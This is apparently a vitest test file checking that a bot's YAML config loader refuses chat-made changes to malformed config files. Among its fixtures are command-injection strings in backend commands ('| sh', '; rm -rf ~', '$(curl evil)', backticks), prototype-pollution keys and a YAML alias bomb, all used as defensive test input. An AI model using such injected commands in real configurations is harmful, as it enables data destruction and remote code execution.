import { mkdirSync, mkdtempSync, readFileSync, rmSync, unlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { openConfig, type FileConfigSource } from '../../src/config/file-source.js';
import type { ConfigChange } from '../../src/config/port.js';
import { ConfigError } from '../../src/errors/index.js';
import { recordFigure } from '../support/figures.js';

/**
 * A config file the bot cannot use is never written over by a change made in chat: the change is
 * refused with the reason, and the file stays byte for byte what its owner wrote.
 */

const GOOD = 'default: opus\nmodels:\n  opus: { backend: claude }\n';

/** Files that parse as YAML (or nearly) but are not a config the bot can use. */
const MALFORMED: Record<string, string> = {
  'a top-level list': '- opus\n- sonnet\n',
  'a top-level scalar': 'opus\n',
  'a top-level number': '42\n',
  'models as a list': 'default: opus\nmodels:\n  - opus\n  - sonnet\n',
  'models as a string': 'models: opus\n',
  'aliases as a list': 'models:\n  opus:\naliases:\n  - reviewer\n',
  'backends as a list': 'backends:\n  - claude\n',
  'repos as a number': 'repos: 3\n',
  'channels as a list': 'channels:\n  - C1\n',
  'access as a string': 'access: everyone\n',
  'access.admin as a string': 'access:\n  admin: U123\n',
  'access.dispatch with a number': 'access:\n  dispatch: [900000000000000011]\n',
  'limits as a list': 'limits:\n  - 1\n',
  'an unknown top-level key': 'default: opus\nmodels:\n  opus:\nmodel: sonnet\n',
  'a model named constructor': 'models:\n  constructor: { backend: claude }\n',
  'a model named __proto__': 'models:\n  __proto__: { backend: claude }\n',
  'an alias named toString': 'models:\n  opus:\naliases:\n  toString: { model: opus }\n',
  'a default named valueOf': 'default: valueOf\nmodels:\n  opus:\n',
  'a backend named hasOwnProperty': 'backends:\n  hasOwnProperty: { command: x }\n',
  'a name with spaces': 'models:\n  "my model": {}\n',
  'a name starting with a dash': 'models:\n  "-rf": {}\n',
  'a name of 200 characters': `models:\n  ${'m'.repeat(200)}: {}\n`,
  'a task timeout of 600h': 'limits:\n  task_timeout: 600h\n',
  'a task timeout of 30 days in seconds': 'limits:\n  task_timeout: 2592000\n',
  'a confirm timeout of 0': 'limits:\n  confirm_timeout: 0\n',
  'a negative timeout': 'limits:\n  task_timeout: -5\n',
  'a timeout in words': 'limits:\n  task_timeout: soon\n',
  'a timeout as a list': 'limits:\n  task_timeout: [1, 2]\n',
  'concurrency zero': 'limits:\n  concurrency: 0\n',
  'concurrency as text': 'limits:\n  concurrency: four\n',
  'per_backend for an unknown backend': 'limits:\n  per_backend: { nope: 1 }\n',
  'worktree_cleanup misspelled': 'limits:\n  worktree_cleanup: sometimes\n',
  'a default that is not configured': 'default: opus\nmodels:\n  sonnet:\n',
  'an alias to nothing': 'models:\n  opus:\naliases:\n  rev: { model: gpt-9 }\n',
  'aliases in a cycle': 'aliases:\n  a: { model: b }\n  b: { model: a }\n',
  'an alias that is also a model': 'models:\n  opus:\naliases:\n  opus: { model: opus }\n',
  'a model on an unknown backend': 'models:\n  opus: { backend: nowhere }\n',
  'a backend command with a pipe': 'backends:\n  claude: { command: "claude -p | sh" }\n',
  'a backend command with a semicolon': 'backends:\n  claude: { command: "claude -p; rm -rf ~" }\n',
  'a backend command with $(…)': 'backends:\n  claude: { command: "claude $(curl evil)" }\n',
  'a backend command with backticks': 'backends:\n  claude: { command: "claude `id`" }\n',
  'an empty backend command': 'backends:\n  claude: { command: "" }\n',
  'a backend without a command': 'backends:\n  claude: {}\n',
  'a channel bound to an unknown repo': 'channels:\n  C1: { repo: web }\n',
  'two default repos': 'repos:\n  a: { path: /a, default: true }\n  b: { path: /b, default: true }\n',
  'a repo with an empty path': 'repos:\n  web: ""\n',
  'a legacy agent without a command': 'agents:\n  old: { model: opus }\n',
  'a legacy agents list': 'agents:\n  - old\n',
  'an unclosed flow map': 'models: { opus: { backend: claude }\n',
  'an unclosed quote': 'default: "opus\nmodels:\n  opus:\n',
  'a tab indent': 'models:\n\topus:\n',
  'a duplicate key': 'default: opus\ndefault: sonnet\nmodels:\n  opus:\n  sonnet:\n',
  'a bad indent': 'models:\n  opus:\n backend: claude\n',
  'an alias bomb': `a: &a [x, x, x, x, x, x, x, x, x]\n${Array.from({ length: 8 }, (_, i) => `b${i}: &b${i} [${Array(9).fill(i === 0 ? '*a' : `*b${i - 1}`).join(', ')}]`).join('\n')}\n`,
  'a stray document marker': 'default: opus\n---\nmodels: {}\n',
  'a custom tag': 'models: !!set { opus }\n',
  'a binary blob': 'default: !!binary aGVsbG8=\n',
  'only a comment and a list': '# team config\n- default: opus\n',
  'a key with a colon inside': 'models:\n  "gpt: 5": {}\n',
  'a boolean model list': 'models: true\n',
  'a null access list entry': 'access:\n  dispatch: [~]\n',
  'an empty principal': 'access:\n  admin: [""]\n',
};

/** What a chat user might ask for while the file is broken. */
const CHANGES: ConfigChange[][] = [
  [{ op: 'add-model', model: 'sonnet', backend: 'claude' }],
  [{ op: 'set-default', model: 'opus' }],
  [{ op: 'set-alias', alias: 'reviewer', model: 'opus', prompt: 'Be thorough.' }],
  [{ op: 'remove-model', model: 'opus' }],
  [{ op: 'migrate' }],
];

let dir: string;
const sources: FileConfigSource[] = [];

beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'dispatch-config-guard-'));
});

afterEach(() => {
  for (const source of sources.splice(0)) source.close();
  rmSync(dir, { recursive: true, force: true });
});

async function open(path: string): Promise<FileConfigSource> {
  const source = await openConfig({ path, watch: false });
  sources.push(source);
  return source;
}

describe('a config file that breaks the schema is never replaced by a chat change', () => {
  it('refuses to write over a top-level list and says why', async () => {
    const file = join(dir, 'config.yaml');
    writeFileSync(file, '- opus\n- sonnet\n');
    const source = await open(file);
    const refused = await source.apply([{ op: 'add-model', model: 'opus', backend: 'claude' }]).catch((e: unknown) => e);
    expect(refused).toBeInstanceOf(ConfigError);
    expect((refused as Error).message).toMatch(/will not write over it/);
    expect((refused as Error).message).toMatch(/must be a mapping/);
    expect(readFileSync(file, 'utf8')).toBe('- opus\n- sonnet\n');
  });

  it('refuses to write over `models:` as a list, keeping the other models it lists', async () => {
    const file = join(dir, 'config.yaml');
    const text = 'default: opus\nmodels:\n  - opus\n  - sonnet\n';
    writeFileSync(file, text);
    const source = await open(file);
    await expect(source.apply([{ op: 'add-model', model: 'gpt-5.3', backend: 'codex' }])).rejects.toThrow(/models: expected a mapping/);
    expect(readFileSync(file, 'utf8')).toBe(text);
  });

  it('a good config edited into a broken one: the last good config stays in force and the file is not replaced', async () => {
    const file = join(dir, 'config.yaml');
    writeFileSync(file, GOOD);
    const source = await open(file);
    writeFileSync(file, '- opus\n');
    await source.checkDisk();
    expect(source.lastError()?.message).toMatch(/must be a mapping/);
    await expect(source.apply([{ op: 'set-default', model: 'opus' }])).rejects.toThrow(/will not write over it/);
    expect(readFileSync(file, 'utf8')).toBe('- opus\n');
    expect(source.current().default).toBe('opus');
  });

  it('a config file deleted while the bot runs is not recreated by a chat change from scratch', async () => {
    const file = join(dir, 'config.yaml');
    writeFileSync(file, `${GOOD}access:\n  admin: [U1]\n  dispatch: [U1]\n`);
    const source = await open(file);
    unlinkSync(file);
    await source.checkDisk();
    await expect(source.apply([{ op: 'add-model', model: 'sonnet', backend: 'claude' }])).rejects.toThrow(/is gone/);
    expect(source.current().access?.admin).toEqual(['U1']);
  });

  it(`refuses every chat change to ${Object.keys(MALFORMED).length} malformed files, and loses or replaces none`, async (context) => {
    let lostOrReplaced = 0;
    const unrefused: string[] = [];
    for (const [name, text] of Object.entries(MALFORMED)) {
      const home = join(dir, name.replace(/[^a-z0-9]+/gi, '-'));
      mkdirSync(home);
      const file = join(home, 'config.yaml');
      writeFileSync(file, text);
      const source = await open(file);
      expect(source.lastError(), name).toBeInstanceOf(ConfigError);
      for (const changes of CHANGES) {
        const outcome = await source.apply(changes).then(
          () => 'applied',
          (error: unknown) => (error instanceof ConfigError ? 'refused' : `crashed: ${String(error)}`),
        );
        if (outcome !== 'refused') unrefused.push(`${name}: ${changes[0]?.op} ${outcome}`);
      }
      if (readFileSync(file, 'utf8') !== text) lostOrReplaced += 1;
    }
    expect(unrefused).toEqual([]);
    expect(lostOrReplaced).toBe(0);
    recordFigure(context, 'configs', { malformed: Object.keys(MALFORMED).length, lostOrReplaced });
  });
});
